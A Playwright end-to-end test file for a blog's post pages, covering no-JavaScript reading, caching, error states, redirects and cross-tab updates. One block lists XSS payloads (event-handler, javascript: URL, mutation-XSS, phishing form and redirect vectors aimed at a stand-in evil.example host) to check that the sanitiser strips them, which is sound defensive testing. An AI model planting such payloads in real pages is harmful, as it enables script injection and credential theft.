import type { Page } from 'playwright-core'
import { expect } from 'vitest'
import { atBothWidths, becomesLive, journey } from '../../browser/browser.ts'
import { followInside } from '../../browser/follow-inside.ts'
import { holdBack } from '../../browser/hold-back.ts'
import { drawn } from '../../browser/page-rest.ts'
import { changePostOn, shelf, shelfOn, writePostOn } from '../../sent/posts-on-site.ts'
import { wordsRunOut } from '../../browser/words-run-out.ts'

const off = { javaScriptEnabled: false }
const heading = (page: Page) => page.locator('main h1')
const prose = (page: Page) => page.locator('.post-prose')
const redError = (page: Page) => page.getByRole('alert').locator('p').first()
const titled = (page: Page, text: string) => expect.poll(() => heading(page).innerText()).toBe(text)

const mark = (page: Page) => page.evaluate(() => Object.assign(window, { sameDocument: true }))
const isSameDocument = (page: Page) => page.evaluate(() => 'sameDocument' in window)

const askedOf = (page: Page) => {
  const asked: string[] = []
  page.on('request', (request) => {
    const { pathname } = new URL(request.url())
    if (pathname.startsWith('/api/blogs/post/')) asked.push(pathname)
  })
  return asked
}

const sample = '/insights/exactly-once-is-a-column'

atBothWidths(
  'INS-5: a post is read without JavaScript: contents, code, tables, notes, neighbours, links to share',
  async ({ page, open, site }) => {
    await shelfOn(site)
    await open(sample)
    await titled(page, 'Exactly once is a column')
    expect(await page.locator('.post-byline').innerText()).toMatch(/\d+ min read/)
    expect(await page.locator('.post-byline time').getAttribute('datetime')).toMatch(/^\d{4}-/)
    expect(await page.locator('.post-prose pre .hljs-keyword').count()).toBeGreaterThan(3)
    expect(await page.locator('.post-table table').count()).toBe(1)
    const contents = page.getByRole('navigation', { name: 'Contents' }).getByRole('link')
    expect(await contents.count()).toBeGreaterThanOrEqual(3)
    await contents.last().click()
    const target = new URL(page.url()).hash
    expect(await page.locator(target).isVisible()).toBe(true)
    await page.locator('.post-prose sup a').first().click()
    expect(await page.locator('.post-prose li:target').count()).toBe(1)
    expect(await wordsRunOut(page)).toEqual([])
    const share = page.getByRole('list', { name: 'Share this post' }).getByRole('link')
    expect(await share.allInnerTexts()).toEqual(
      'VK Weibo WhatsApp Workplace X LinkedIn Facebook Telegram Reddit Email,Copy link'
        .replace(',', '|')
        .split(/[ |](?!link)/),
    )
    expect(await page.getByRole('link', { name: 'VK' }).getAttribute('href')).toContain(
      encodeURIComponent(`${site.url}${sample}`),
    )
    await page
      .getByRole('navigation', { name: 'Previous and next' })
      .getByRole('link')
      .last()
      .click()
    expect(await heading(page).innerText()).not.toBe('Exactly once is a column')
  },
  off,
)

atBothWidths(
  'INS-5: a click shows a spinner, asks for the post by its key, and the server behind it; the second time the cache has it',
  async ({ page, open, site }) => {
    await shelfOn(site)
    const asked = askedOf(page)
    await open('/insights')
    await becomesLive(page)
    await mark(page)
    const release = await holdBack(page, '**/api/blogs/post/key/*')
    const link = page.locator('.blog-card a').first()
    const title = await page.locator('.blog-card h3').first().innerText()
    await link.click()
    await page.getByText('Loading the post').waitFor()
    await titled(page, title)
    const isAtHeading = () => page.evaluate(() => document.activeElement?.matches('main h1'))
    await expect.poll(isAtHeading).toBe(true)
    expect(await page.title()).toBe(`${title} | Naksha`)
    release()
    await prose(page).locator('p').first().waitFor()
    expect(await isAtHeading()).toBe(true)
    expect(asked.length).toBe(1)
    expect(asked[0]).toContain('/api/blogs/post/key/')
    await page.locator('.post-related').waitFor()
    expect(await page.title()).toContain(title)
    expect(await isSameDocument(page)).toBe(true)

    await page.goBack()
    await titled(page, 'INSIGHT')
    await link.click()
    await titled(page, title)
    await prose(page).locator('p').first().waitFor()
    expect(asked.length).toBe(1)
    const kept = await page.evaluate(() => JSON.parse(localStorage.getItem('cachedBlogs')!))
    expect(kept[0].title).toBe(title)
    expect(Math.abs(kept[0].cachedAt - Date.now())).toBeLessThan(60_000)
  },
)

atBothWidths(
  'INS-5: a post that the list has whole is shown without asking for it',
  async ({ page, open, site }) => {
    await shelfOn(site)
    const asked = askedOf(page)
    await open('/insights')
    await becomesLive(page)
    await page.getByRole('button', { name: shelf, exact: true }).click()
    const link = page.getByRole('link', { name: 'Learn More Shelf mark 20' })
    await link.click()
    await titled(page, 'Shelf mark 20')
    expect(await prose(page).locator('p').first().innerText()).toBe('What stands at mark 20.')
    await page.locator('.post-related').waitFor()
    expect(asked).toEqual([])
  },
)

journey(
  'INS-5: a post of a list that the server drew is asked for whole',
  1280,
  async ({ page, open, site, context }) => {
    await shelfOn(site)
    await open(`/insights?category=${shelf}`)
    await becomesLive(page)
    const letGo = await holdBack(context, '**/*.data*')
    await page.getByRole('link', { name: 'Learn More Shelf mark 20' }).click()
    await titled(page, 'Shelf mark 20')
    await expect
      .poll(() => prose(page).locator('p').first().innerText())
      .toBe('What stands at mark 20.')
    expect(await page.getByText('Blog content not found.').count()).toBe(0)
    letGo()
    await context.unrouteAll({ behavior: 'ignoreErrors' })
  },
)

journey(
  'INS-5: without a key the title in the address finds the post',
  1280,
  async ({ page, open, site }) => {
    await shelfOn(site)
    const asked = askedOf(page)
    await open('/work')
    await becomesLive(page)
    await followInside(page, '/insights/shelf-mark-3')
    await titled(page, 'Shelf mark 3')
    expect(decodeURIComponent(asked[0]!)).toBe('/api/blogs/post/title/shelf mark 3')
    await page.locator('.post-related').waitFor()
  },
)

for (const [state, route, message] of [
  [{ id: 'some-key' }, '**/api/blogs/post/key/*', 'Error: Failed to fetch blog by key'],
  [undefined, '**/api/blogs/post/title/**', 'Error: Fetch by title failed'],
] as const)
  atBothWidths(
    `INS-5: a failure is told in red and can be tried again: ${message}`,
    async ({ page, open, site, expectComplaint }) => {
      expectComplaint(/ERR_FAILED|404/)
      const [post] = await shelfOn(site)
      await open('/work')
      await becomesLive(page)
      await page.route(route, (failing) => failing.abort())
      await followInside(page, `/insights/${post!.slug}`, state && { id: post!.key })
      await redError(page).waitFor()
      expect(await redError(page).innerText()).toBe(message)
      const [red, , blue] = (await redError(page).evaluate((line) => getComputedStyle(line).color))
        .match(/\d+/g)!
        .map(Number)
      expect(red).toBeGreaterThan(150)
      expect(blue).toBeLessThan(100)
      await page.unroute(route)
      await page.getByRole('button', { name: 'Try again' }).click()
      await titled(page, post!.title)
    },
  )

atBothWidths.long(
  'INS-5: what is not there is told in red; what is empty says so',
  async ({ page, open, site }) => {
    const empty = await writePostOn(site, { title: 'Blank sheet', category: 'Blank', content: '' })
    await open('/work')
    await becomesLive(page)
    await followInside(page, '/insights/no-such-post')
    await redError(page).waitFor()
    expect(await redError(page).innerText()).toBe('Error: Blog not found')
    await followInside(page, `/insights/${empty.slug}`)
    await page.getByText('Blog content not found.', { exact: true }).waitFor()
    await open(`/insights/${empty.slug}`)
    expect(await page.getByText('Blog content not found.', { exact: true }).isVisible()).toBe(true)
  },
)

atBothWidths(
  'INS-5: an unknown address is a 404 in the frame; a former one leads on',
  async ({ page, open, site, expectComplaint }) => {
    const first = await writePostOn(site, {
      title: `Former name ${Date.now()}`,
      category: 'Names',
      content: '<p>a</p>',
    })
    const now = await changePostOn(site, { ...first, title: `${first.title} anew` })
    await open(`/insights/${first.slug}`)
    expect(new URL(page.url()).pathname).toBe(`/insights/${now.slug}`)
    const answer = await fetch(`${site.url}/insights/${first.slug}`, { redirect: 'manual' })
    expect(answer.status).toBe(301)
    await open('/work')
    await becomesLive(page)
    await followInside(page, `/insights/${first.slug}`)
    await expect.poll(() => new URL(page.url()).pathname).toBe(`/insights/${now.slug}`)
    expectComplaint(/404/)
    await open('/insights/nowhere-at-all')
    expect(await heading(page).innerText()).toBe('This page isn’t here.')
    expect(await page.locator('footer').isVisible()).toBe(true)
  },
)

journey(
  'INS-6: a change of the cache, here or in another tab, reaches the post that is shown',
  1280,
  async ({ page, open, site, context }) => {
    const post = await writePostOn(site, {
      title: `Two tabs ${Date.now()}`,
      category: 'Tabs',
      content: '<p>first words</p>',
    })
    await open('/work')
    await becomesLive(page)
    await followInside(page, `/insights/${post.slug}`)
    await prose(page).getByText('first words').waitFor()
    await page.locator('.post-related').waitFor()
    const now = await changePostOn(site, { ...post, content: '<p>second words</p>' })
    const other = await context.newPage()
    await other.goto('/work')
    await other.evaluate(
      (post) =>
        localStorage.setItem('cachedBlogs', JSON.stringify([{ ...post, cachedAt: Date.now() }])),
      now,
    )
    await prose(page).getByText('second words').waitFor()
    await page.evaluate((post) => {
      const later = { ...post, version: 9, content: '<p>third words</p>', cachedAt: Date.now() }
      localStorage.setItem('cachedBlogs', JSON.stringify([later]))
      dispatchEvent(new Event('blog-cache-updated'))
    }, now)
    await prose(page).getByText('third words').waitFor()
  },
)

journey(
  'INS-6: what the server says behind it takes the place of what was kept, here and in the cache',
  1280,
  async ({ page, open, site }) => {
    const post = await writePostOn(site, {
      title: `Kept ${Date.now()}`,
      category: 'Kept',
      content: '<p>words of the server</p>',
    })
    await open('/work')
    await becomesLive(page)
    const kept = { ...post, title: 'Claimed', content: '<p>claimed</p>', version: 1e9 }
    await page.evaluate(
      (post) =>
        localStorage.setItem('cachedBlogs', JSON.stringify([{ ...post, cachedAt: Date.now() }])),
      kept,
    )
    await followInside(page, `/insights/${post.slug}`)
    await prose(page).getByText('words of the server').waitFor()
    await titled(page, post.title)
    const [now] = await page.evaluate(() => JSON.parse(localStorage.getItem('cachedBlogs')!))
    expect(now).toMatchObject({ key: post.key, title: post.title, version: 1 })
    expect(now.content).toContain('words of the server')
  },
)

const attacks = [
  '<img src=x onerror="parent.attacked=1">',
  '<img src="https://evil.example/pixel.png" onload="parent.attacked=1">',
  '<script>window.attacked=1</script>',
  '<picture><source srcset="https://evil.example/s 1x"><img src="/drawings/card-data.svg" srcset="https://evil.example/t 1x"></picture>',
  '<iframe srcdoc="<script>parent.attacked=1</script>"></iframe>',
  '<svg onload="window.attacked=1"><animate onbegin="window.attacked=1" attributeName="x"/></svg>',
  '<a href="javascript:window.attacked=1">click</a>',
  '<a href="jav&#x0A;ascript:window.attacked=1">click</a>',
  '<form action="https://evil.example/"><input name="password"><button>Log in</button></form>',
  '<style>body{display:none}</style><link rel="stylesheet" href="https://evil.example/a.css">',
  '<div style="position:fixed;inset:0" class="header" id="main">over everything</div>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=attacked=1&gt;">',
  '<object data="https://evil.example/"></object><embed src="https://evil.example/">',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<video src="https://evil.example/v" autoplay></video><details open ontoggle="attacked=1">x</details>',
].join('')

for (const [way, width, isAlone] of [
  ['cache', 390, false],
  ['cache', 1280, true],
  ['state', 390, true],
  ['state', 1280, false],
  ['api', 1280, true],
] as const)
  (way === 'api' ? journey : journey.long)(
    `INS-6: hostile HTML from the ${way} runs nothing and breaks nothing${isAlone ? ', even if the browser knew no policy' : ''}`,
    width,
    async ({ page, open, site, expectComplaint }) => {
      expectComplaint(/evil\.example\/pixel\.png|404/)
      if (!isAlone) expectComplaint(/violates the following Content Security Policy directive/)
      const content = `<p>hostile words</p>${attacks}`
      const hostile = { key: 'hostile', id: 'hostile', slug: 'hostile', title: 'Hostile', content }
      const dialogs: string[] = []
      page.on('dialog', (dialog) => (dialogs.push(dialog.message()), void dialog.dismiss()))
      const left: string[] = []
      await page.route('https://evil.example/**', (route) => {
        left.push(route.request().url())
        return route.fulfill({ status: 204 })
      })
      await page.route('**/api/blogs/post/title/hostile', (route) =>
        route.fulfill({ json: { posts: way === 'api' ? [hostile] : [] } }),
      )
      await open('/work')
      if (way === 'cache')
        await page.evaluate(
          (post) =>
            localStorage.setItem(
              'cachedBlogs',
              JSON.stringify([{ ...post, cachedAt: Date.now() }]),
            ),
          hostile,
        )
      await becomesLive(page)
      await followInside(
        page,
        '/insights/hostile',
        way === 'state' ? { id: 'hostile', blog: hostile } : undefined,
      )
      await prose(page).getByText('hostile words').waitFor()
      await prose(page).evaluate((box) =>
        Promise.all(
          [...box.querySelectorAll('img')].map(async (image) => {
            image.loading = 'eager'
            await image.decode().catch(() => undefined)
          }),
        ),
      )
      await drawn(page)
      const found = await prose(page).evaluate((box) => ({
        elements: box.querySelectorAll(
          'script, style, iframe, object, embed, form, input, button, link, meta, base, svg, math, video',
        ).length,
        handlers: [...box.querySelectorAll('*')].filter((element) =>
          element.getAttributeNames().some((name) => name.startsWith('on') || name === 'style'),
        ).length,
        scripts: [...box.querySelectorAll('a')].filter(({ href }) => href.startsWith('javascript:'))
          .length,
        ids: box.querySelectorAll('[id]:not([id^="post-"])').length,
        classes: box.querySelectorAll('.header').length,
      }))
      expect(found).toEqual({ elements: 0, handlers: 0, scripts: 0, ids: 0, classes: 0 })
      expect(await page.evaluate(() => 'attacked' in window)).toBe(false)
      expect(dialogs).toEqual([])
      expect(left.filter((url) => !url.endsWith('pixel.png'))).toEqual([])
      expect(new URL(page.url()).origin).toBe(site.url)
      expect(await page.locator('header').first().isVisible()).toBe(true)
    },
    { bypassCSP: isAlone },
  )

atBothWidths.long(
  'INS-6: a cache that cannot be read or written is an empty one',
  async ({ page, open, site }) => {
    const [post] = await shelfOn(site)
    await open('/work')
    await page.evaluate(() => localStorage.setItem('cachedBlogs', '{"not": a list'))
    await becomesLive(page)
    await page.evaluate(() => {
      Storage.prototype.setItem = () => {
        throw new DOMException('full', 'QuotaExceededError')
      }
    })
    await followInside(page, `/insights/${post!.slug}`)
    await titled(page, post!.title)
    await prose(page).locator('p').first().waitFor()
  },
)

journey.long(
  'INS-5: a heading gives a link to itself, and the contents say where one is',
  1280,
  async ({ page, open, site, context }) => {
    await context.grantPermissions(['clipboard-read', 'clipboard-write'])
    await shelfOn(site)
    await open(sample)
    await becomesLive(page)
    const contents = page.getByRole('navigation', { name: 'Contents' })
    await contents.getByRole('link').nth(2).click()
    await expect
      .poll(() => contents.locator('[aria-current]').innerText())
      .toBe(await contents.getByRole('link').nth(2).innerText())
    const last = contents.getByRole('link').last()
    await last.click()
    await expect
      .poll(() => contents.locator('[aria-current]').innerText())
      .toBe(await last.innerText())
    await page.goBack()
    await expect
      .poll(() => contents.locator('[aria-current]').innerText())
      .toBe(await contents.getByRole('link').nth(2).innerText())
    const link = page.locator('.post-prose h2 a').nth(1)
    await link.click()
    await page.getByText('Link to this section copied.').waitFor()
    const copied = await page.evaluate(() => navigator.clipboard.readText())
    expect(copied).toBe(await link.evaluate((one) => (one as HTMLAnchorElement).href))
    await page.getByRole('link', { name: 'Copy link' }).click()
    await page.getByText(`Copied: ${site.url}${sample}`).waitFor()
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(site.url + sample)
  },
)

journey(
  'INS-8: every post stands on one sheet with its words, each id once',
  1280,
  async ({ page, open, site }) => {
    await shelfOn(site)
    await open('/blog-posting-by-lexical')
    const answer = await fetch(`${site.url}/api/all-posts`)
    const { posts } = (await answer.json()) as { posts: { title: string; html: string }[] }
    const articles = page.locator('main article')
    expect(await articles.count()).toBe(posts.length)
    expect(await articles.locator('header h2').allInnerTexts()).toEqual(
      posts.map((one) => one.title),
    )
    expect(await page.getByText('What stands at mark 7.').isVisible()).toBe(true)
    const ids = await page.locator('[id]').evaluateAll((all) => all.map(({ id }) => id))
    expect(new Set(ids).size).toBe(ids.length)
    await page.getByRole('link', { name: 'Read it on its own page' }).first().click()
    await expect.poll(() => new URL(page.url()).pathname).toMatch(/^\/insights\/./)
  },
)
